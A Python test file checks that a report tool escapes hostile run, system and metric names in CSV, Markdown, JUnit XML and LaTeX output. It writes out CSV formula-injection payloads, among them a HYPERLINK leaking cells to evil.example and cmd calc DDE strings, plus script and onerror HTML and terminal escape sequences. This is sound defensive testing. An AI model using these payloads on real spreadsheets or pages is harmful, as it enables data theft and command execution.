"""Hostile names reaching every output format through shared ``results.json`` files.

Run ids, system names and metric display names are untrusted: CSV cells a spreadsheet would run as
formulas are neutralised (numbers stay numbers), Markdown keeps one row per system and one column
per metric with no raw HTML, the ``compare`` table keeps its columns, and JUnit XML parses in
strict parsers.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.dom.minidom
import xml.etree.ElementTree as ET
import xml.sax
from pathlib import Path

import pytest

from reports.escape import FORMULA_TRIGGERS
from tests.report_fixtures import make_run_dir
from trecs_eval.cli import main

# OWASP's CSV-injection examples and one name per trigger character
FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
MD_NAMES = ("evil\n\n# Injected heading\n| x | y |", "a|b|c", "<script>alert(1)</script>\r\nrow",
            "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x1b[2J")  # terminal hyperlink, clear screen
COMPARE_ARGS = ("--n-resamples", "50", "--metrics", "fid,kid,clip_score")  # IS needs more images
NEGATIVE_KID = -0.0123  # a number that starts with "-" must stay a number


def _rewrite(run_dir: Path, systems: dict[str, str], run_id: str | None = None,
             display_names: dict[str, str] | None = None) -> None:
    """Rename systems (and the run, and metric headers) in results.json only, as a hand-edited or
    shared file would."""
    path = run_dir / "results.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    for system in data["systems"]:
        system["name"] = systems.get(system["name"], system["name"])
    for result in data["metrics"]:
        result["system"] = systems.get(result["system"], result["system"])
        if result["name"] == "kid" and result["system"] == systems.get("s0"):
            result["value"], result["ci_low"], result["ci_high"] = NEGATIVE_KID, -0.02, -0.005
    if run_id is not None:
        data["run_id"] = run_id
    for name, shown in (display_names or {}).items():
        data.setdefault("metric_info", {})[name] = {"name": name, "higher_is_better": True,
                                                    "display_name": shown, "column_order": 1}
    path.write_text(json.dumps(data), encoding="utf-8")


def _hostile_run(path: Path, names: tuple[str, ...], **rewrite) -> Path:
    systems = tuple(f"s{i}" for i in range(len(names)))
    run = make_run_dir(path, systems=systems, n_items=4, hostile_item=False)
    _rewrite(run, dict(zip(systems, names, strict=True)), **rewrite)
    return run


def _assert_no_formula_cells(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), (cell, row)
    return rows


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_report_csv_neutralises_formula_cells_and_keeps_numbers(tmp_path, capsys):
    run = _hostile_run(tmp_path / "run", FORMULA_NAMES)
    assert main(["-q", "report", str(run), "--format", "csv", "--out", str(tmp_path / "s.csv")]) == 0
    rows = _assert_no_formula_cells((tmp_path / "s.csv").read_text(encoding="utf-8"))
    # shown as written, behind a quote; a line break or tab becomes a space (one row per system)
    assert [row[0] for row in rows[1:]] == ["'" + name for name in FORMULA_NAMES[:4]] + ["' =1+1"] * 2
    header = rows[0]
    kid = rows[1][header.index("kid")]
    assert kid == repr(NEGATIVE_KID) and float(kid) == NEGATIVE_KID  # a number, not "'-0.0123"


def test_history_csv_neutralises_formula_cells(tmp_path, capsys):
    _hostile_run(tmp_path / "runs" / "r1", FORMULA_NAMES[:3], run_id='=HYPERLINK("http://evil.example")')
    assert main(["-q", "report", "--history", str(tmp_path / "runs"), "--format", "csv",
                 "--out", str(tmp_path / "h.csv")]) == 0
    rows = _assert_no_formula_cells((tmp_path / "h.csv").read_text(encoding="utf-8"))
    assert any(cell.startswith("'" + FORMULA_NAMES[0]) for cell in rows[0])  # a "system:metric" header


def _table_rows(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if line.startswith("|")]


def _columns(row: str) -> int:
    return len(re.findall(r"(?<!\\)\|", row.replace("\\\\", ""))) - 1


def test_markdown_report_keeps_one_row_per_system_and_no_raw_html(tmp_path, capsys):
    run = _hostile_run(tmp_path / "run", MD_NAMES, run_id="run\n# Injected title\n<script>x()</script>",
                       display_names={"fid": "FID\n| extra | column |<img src=x onerror=alert(1)>"})
    assert main(["-q", "report", str(run), "--format", "md", "--out", str(tmp_path / "s.md")]) == 0
    md = (tmp_path / "s.md").read_text(encoding="utf-8")
    rows = _table_rows(md)
    assert len(rows) == 2 + len(MD_NAMES)  # header, separator, one row per system
    assert len({_columns(row) for row in rows}) == 1, rows
    assert not any(line.startswith("#") for line in md.splitlines())
    assert "<script" not in md and "<img" not in md and "&lt;script&gt;" in md
    assert "\x1b" not in md and "\x07" not in md  # `report` prints the table to a terminal too


def _compare_runs(tmp_path: Path, name: str) -> tuple[Path, Path]:
    systems = (name, "retrieval")
    a = make_run_dir(tmp_path / "a", systems=systems, n_items=6, hostile_item=False)
    b = make_run_dir(tmp_path / "b", systems=systems, n_items=6, hostile_item=False, score_shift={name: -3.0})
    return a, b


def test_compare_table_a_pipe_in_a_system_name_adds_no_column(tmp_path, capsys):
    a, b = _compare_runs(tmp_path, "tre|cs\n| injected |")
    assert main(["-q", "compare", str(a), str(b), "--format", "md", *COMPARE_ARGS,
                 "--out", str(tmp_path / "c.md")]) in (0, 1)
    rows = _table_rows((tmp_path / "c.md").read_text(encoding="utf-8"))
    assert len(rows) > 2 and len({_columns(row) for row in rows}) == 1, rows
    assert any(row.startswith("| tre\\|cs \\| injected \\| |") for row in rows), rows


def test_junit_drops_xml_control_characters_and_parses_strictly(tmp_path, capsys):
    name = "tre\x0bcs\x1b[31m\ufffe"  # a folder name too (no NUL): compare reads features/{system}.npz
    a, b = _compare_runs(tmp_path, name)
    assert main(["-q", "compare", str(a), str(b), "--format", "junit", *COMPARE_ARGS,
                 "--out", str(tmp_path / "c.xml")]) in (0, 1)
    data = (tmp_path / "c.xml").read_bytes()
    root = ET.fromstring(data)
    xml.sax.parseString(data, xml.sax.handler.ContentHandler())  # expat: well-formedness is fatal
    xml.dom.minidom.parseString(data)
    classnames = {case.get("classname") for case in root.iter("testcase")}
    assert "trecs_eval.trecs[31m" in classnames, classnames


@pytest.mark.parametrize("fmt", ["md", "csv", "tex"])
def test_hostile_metric_key_in_results_json_is_escaped_in_every_table(tmp_path, fmt, capsys):
    run = make_run_dir(tmp_path / "run", systems=("s0",), n_items=3, hostile_item=False)
    path = run / "results.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    data["metrics"][0]["name"] = "=cmd|' /C calc'!A0\n\n| x |"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert main(["-q", "report", str(run), "--format", fmt, "--out", str(tmp_path / f"s.{fmt}")]) == 0
    text = (tmp_path / f"s.{fmt}").read_text(encoding="utf-8")
    if fmt == "csv":
        _assert_no_formula_cells(text)
    elif fmt == "md":
        assert len({_columns(row) for row in _table_rows(text)}) == 1
    else:
        assert "\n\n" not in text.split(r"\begin{tabular}")[1].split(r"\end{tabular}")[0]  # no \par in a row


def test_every_character_xml_forbids_is_removed_and_the_rest_kept():
    from reports.escape import xml_text

    forbidden = [chr(c) for c in range(0x20) if c not in (0x9, 0xA, 0xD)] + ["\ufffe", "\uffff", "\ud800"]
    kept = "tab\tnl\ncr\r é ✓ 𝄞 <&>"
    assert xml_text("".join(forbidden) + kept) == kept
    element = ET.Element("t", name="".join(forbidden) + "x")
    element.text = kept
    from reports.escape import clean_xml_tree

    data = ET.tostring(clean_xml_tree(element), encoding="utf-8")
    assert ET.fromstring(data).get("name") == "x"


def test_a_compare_error_naming_a_hostile_system_stays_one_line(tmp_path, capsys):
    a, b = _compare_runs(tmp_path, "tre|cs\n# injected")
    assert main(["-q", "compare", str(a), str(b), "--metrics", "is"]) == 2  # IS needs more images
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err and "tre|cs\\n# injected" in err, err


@pytest.mark.parametrize("fmt", ["md", "csv", "html"])
def test_a_lone_surrogate_in_a_name_is_refused_in_one_line(tmp_path, fmt, capsys):
    run = make_run_dir(tmp_path / "run", systems=("s0",), n_items=3, hostile_item=False)
    path = run / "results.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    data["systems"][0]["name"] = "s\ud800x"
    path.write_text(json.dumps(data), encoding="utf-8")  # ASCII: written as the escape \ud800
    assert main(["-q", "report", str(run), "--format", fmt, "--out", str(tmp_path / f"s.{fmt}")]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.count("\n") == 1, err
    assert "results.json" in err and "systems[0].name" in err and "surrogate" in err
    assert not (tmp_path / f"s.{fmt}").exists()
